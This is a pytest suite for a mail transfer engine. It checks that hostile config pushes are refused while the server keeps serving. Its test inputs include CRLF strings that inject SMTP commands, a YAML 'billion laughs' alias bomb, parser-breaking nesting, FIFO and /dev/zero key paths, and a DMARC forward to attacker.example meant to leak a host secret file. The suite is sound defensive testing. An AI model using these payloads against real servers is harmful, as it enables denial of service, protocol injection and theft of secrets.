"""Hostile config reloads (issue 21, lower items): a config pushed through the admin API (or
edited) that names a FIFO or a device as a key, injects a line into the banner through
`hostname`, multiplies itself with YAML aliases, nests deeper than the parser recurses, or
points the DMARC forward's token at another file. Each is refused naming the field, the engine
keeps serving (probes, sessions) and keeps running the old config."""

from __future__ import annotations

import asyncio
import http.client
import json
import os
import subprocess
import threading
import types
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from fixtures.engine import MAILFLEET, EngineProc
from fixtures.keys import RSA_KEY
from fixtures.rawsmtp import RawSMTP

from mailfleet.mta import engine as engine_module
from mailfleet.mta.metrics import EngineMetrics


def push(eng: EngineProc, config: str | dict[str, Any], timeout: float = 30.0) -> tuple[int, Any]:
    """POST /v1/reload {"config": ...} with the engine's token: (status, answer)."""
    text = config if isinstance(config, str) else yaml.safe_dump(config)
    conn = http.client.HTTPConnection(eng.host, eng.admin_port, timeout=timeout)
    try:
        conn.request(
            "POST",
            "/v1/reload",
            body=json.dumps({"config": text}),
            headers={"Authorization": f"Bearer {eng.token()}", "Content-Type": "application/json"},
        )
        rsp = conn.getresponse()
        return rsp.status, json.loads(rsp.read())
    finally:
        conn.close()


def healthz(eng: EngineProc) -> int:
    conn = http.client.HTTPConnection(eng.host, eng.admin_port, timeout=5)
    try:
        conn.request("GET", "/healthz")
        return conn.getresponse().status
    finally:
        conn.close()


def with_(eng: EngineProc, **sections: Any) -> dict[str, Any]:
    out = dict(eng.config)
    out.update(sections)
    return out


def _refused_while_serving(eng: EngineProc, config: dict[str, Any], field: str) -> None:
    """Pushes `config` on a thread; meanwhile /healthz and a session's banner must answer.
    Then: refused (422) naming `field`, and the running config unchanged."""
    before = eng.status()["configHash"]
    answer: list[tuple[int, Any]] = []
    pusher = threading.Thread(target=lambda: answer.append(push(eng, config)), daemon=True)
    pusher.start()
    assert healthz(eng) == 200
    c = RawSMTP("127.0.0.1", eng.smtp_port, timeout=5)
    assert c.greeting.startswith("220 mta.test")
    c.sock.close()
    pusher.join(30)
    assert answer, "the reload never answered"
    status, body = answer[0]
    assert status == 422 and body["reloaded"] is False, body
    assert field in body["message"], body
    assert eng.status()["configHash"] == before


@pytest.mark.parametrize("field", ["dkim", "tokenKey", "tlsCert"])
def test_a_fifo_named_as_a_key_is_refused_and_the_engine_keeps_serving(
    mta_engine: Callable[..., EngineProc], tmp_path: Path, field: str
) -> None:
    eng = mta_engine()
    fifo = tmp_path / "key.fifo"
    os.mkfifo(fifo)
    if field == "dkim":
        key = RSA_KEY.model_dump(mode="json", by_alias=True)
        config = with_(eng, dkim={"keys": [{**key, "keyFile": str(fifo)}]})
        name = "dkim.keys[0].keyFile"
    elif field == "tokenKey":
        config = with_(eng, headers={"tokenKeyFile": str(fifo)})
        name = "headers.tokenKeyFile"
    else:
        tls = {"certFile": str(fifo), "keyFile": str(RSA_KEY.key_file)}
        config = with_(eng, submission={**eng.config["submission"], "tls": tls})
        name = "submission.tls.certFile"
    _refused_while_serving(eng, config, name)
    assert "FIFO" in push(eng, config)[1]["message"]


def test_dev_zero_as_a_key_is_refused(mta_engine: Callable[..., EngineProc]) -> None:
    eng = mta_engine()
    key = RSA_KEY.model_dump(mode="json", by_alias=True)
    config = with_(eng, dkim={"keys": [{**key, "keyFile": "/dev/zero"}]})
    _refused_while_serving(eng, config, "dkim.keys[0].keyFile")


def test_a_key_file_too_large_is_refused(
    mta_engine: Callable[..., EngineProc], tmp_path: Path
) -> None:
    eng = mta_engine()
    big = tmp_path / "big.pem"
    with big.open("wb") as f:
        f.truncate(200 * 1024 * 1024)  # sparse: large to stat, nothing on disk
    key = RSA_KEY.model_dump(mode="json", by_alias=True)
    status, body = push(eng, with_(eng, dkim={"keys": [{**key, "keyFile": str(big)}]}))
    assert status == 422 and "dkim.keys[0].keyFile" in body["message"], body
    assert "bytes" in body["message"]


def test_a_hostname_with_a_line_break_never_reaches_the_banner(
    mta_engine: Callable[..., EngineProc], tmp_path: Path
) -> None:
    eng = mta_engine()
    for bad in ("mx\r\n250-INJECTED", "mx 250", "mx\x00", "-mx.example", "a" * 254, "mx..a"):
        status, body = push(eng, with_(eng, hostname=bad))
        assert status == 422 and "hostname" in body["message"], (bad, body)
    c = RawSMTP("127.0.0.1", eng.smtp_port)
    assert c.greeting == "220 mta.test ESMTP mailfleet" or c.greeting.startswith("220 mta.test ")
    ehlo = c.cmd("EHLO client.test")
    assert "INJECTED" not in ehlo and ehlo.startswith("250-mta.test")
    # At start too: `mailfleet mta --check` and the engine itself refuse it.
    cfg = tmp_path / "bad.yaml"
    cfg.write_text(yaml.safe_dump({"hostname": "mx\r\n250-INJECTED"}))
    done = subprocess.run(
        [MAILFLEET, "mta", "--check", "--config", str(cfg)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 2 and "hostname" in done.stderr, done.stderr
    # A source IP's HELO name goes into EHLO as well.
    ip = {"address": "127.0.0.2", "hostname": "out\r\nRCPT TO:<x@y>"}
    status, body = push(eng, with_(eng, delivery={"sourceIPs": [ip]}))
    assert status == 422 and "sourceIPs.0.hostname" in body["message"], body
    # A good one is taken, with or without the root's dot.
    status, body = push(eng, with_(eng, hostname="mx-1.example.com."))
    assert status == 200, body
    assert eng.status()["hostname"] == "mx-1.example.com"


def _laughs(levels: int) -> str:
    lines = ['l0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 10) + "]")
    # Where it is validated item by item: the signed header names.
    return "\n".join(lines) + f"\ndkim: {{headers: *l{levels - 1}}}\n"


def test_yaml_aliases_are_refused_quickly(mta_engine: Callable[..., EngineProc]) -> None:
    eng = mta_engine()
    before = eng.status()["configHash"]
    # Even a harmless-looking one: an anchor's content is not repeated by reference.
    text = yaml.safe_dump(eng.config) + "delivery: &d {tls: none}\nretry: *d\n"
    status, body = push(eng, text)
    assert status == 422 and "aliases" in body["message"], body
    # Nine levels: six billion "lol"s to validate, had they been expanded.
    status, body = push(eng, _laughs(9))
    assert status == 422 and "aliases" in body["message"], body
    assert healthz(eng) == 200
    assert eng.status()["configHash"] == before


def test_the_config_watcher_survives_a_config_nested_too_deep(
    mta_engine: Callable[..., EngineProc],
) -> None:
    eng = mta_engine()
    generation = eng.status()["configGeneration"]
    failed = eng.metric("mailfleet_config_reloads_total", result="failed")
    eng.config_path.write_text("hostname: " + "[" * 20_000 + "]" * 20_000 + "\n")
    eng.wait_until(
        lambda: eng.metric("mailfleet_config_reloads_total", result="failed") > failed,
        30,
        "the nested config refused",
    )
    # A later edit is still seen: the watcher lives on.
    eng.write_config(with_(eng, submission={**eng.config["submission"], "maxRecipients": 7}))
    eng.wait_until(
        lambda: eng.status()["configGeneration"] > generation, 30, "the next edit applied"
    )
    assert push(eng, "x: " + "[" * 20_000)[0] == 422


def test_the_config_watcher_survives_an_unexpected_error(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Whatever a reload may raise one day, the watcher logs it, counts it and keeps watching.
    monkeypatch.setattr(engine_module, "CONFIG_POLL_INTERVAL", 0.01)
    calls: list[int] = []
    mtimes = iter(range(1, 1000))

    async def reload(*, only_if_changed: bool) -> tuple[bool, str]:
        calls.append(1)
        if len(calls) == 1:
            raise RuntimeError("something nobody foresaw")
        return True, "applied"

    fake = types.SimpleNamespace(
        _config_mtime=0.0,
        _mtime=lambda: float(next(mtimes)),
        reload=reload,
        metrics=EngineMetrics(),
    )

    async def run() -> None:
        task = asyncio.create_task(engine_module.Engine._watch_config(fake))  # type: ignore[arg-type]
        for _ in range(500):
            await asyncio.sleep(0.01)
            if len(calls) >= 3:
                break
        assert not task.done(), task
        task.cancel()

    asyncio.run(run())
    assert len(calls) >= 3
    errors = fake.metrics.config_reloads.labels("error")._value.get()
    assert errors == 1


def _dmarc(token_file: Path, forward: str) -> dict[str, Any]:
    return {
        "tokenFile": str(token_file),
        "addresses": [
            {"address": "dmarc@example.com", "forwardURL": forward, "sources": ["127.0.0.0/8"]}
        ],
    }


def test_a_pushed_config_cannot_send_another_file_as_the_dmarc_token(
    mta_engine: Callable[..., EngineProc], tmp_path: Path
) -> None:
    admin_token = tmp_path / "admin-token"
    admin_token.write_text("s3cret-admin-token-0123456789\n")
    eng = mta_engine({"admin": {"tokenFile": str(admin_token)}}, start=False)
    eng.admin_token = "s3cret-admin-token-0123456789"
    eng.start()
    other = tmp_path / "host-secret"  # a one-line file of the host: /etc/shadow's stand-in
    other.write_text("root-password-hash-0123456789\n")
    before = eng.status()["configHash"]
    status, body = push(eng, with_(eng, dmarcReports=_dmarc(other, "https://attacker.example/")))
    assert status == 422 and "dmarcReports.tokenFile" in body["message"], body
    assert eng.status()["configHash"] == before
    # A new admin.tokenFile cannot be pushed either (it could then be named for the forward).
    status, body = push(eng, with_(eng, admin={**eng.config["admin"], "tokenFile": str(other)}))
    assert status == 422 and "admin.tokenFile" in body["message"], body
    # The pool's admin token, which the operator renders there, is what a push may name.
    status, body = push(eng, with_(eng, dmarcReports=_dmarc(admin_token, "http://127.0.0.1:9/")))
    assert status == 200, body
    # The config file (written by whoever runs the engine) may name another file.
    generation = eng.status()["configGeneration"]
    eng.write_config(with_(eng, dmarcReports=_dmarc(other, "http://127.0.0.1:9/")))
    eng.sighup()
    eng.wait_until(lambda: eng.status()["configGeneration"] > generation, 30, "file reload")
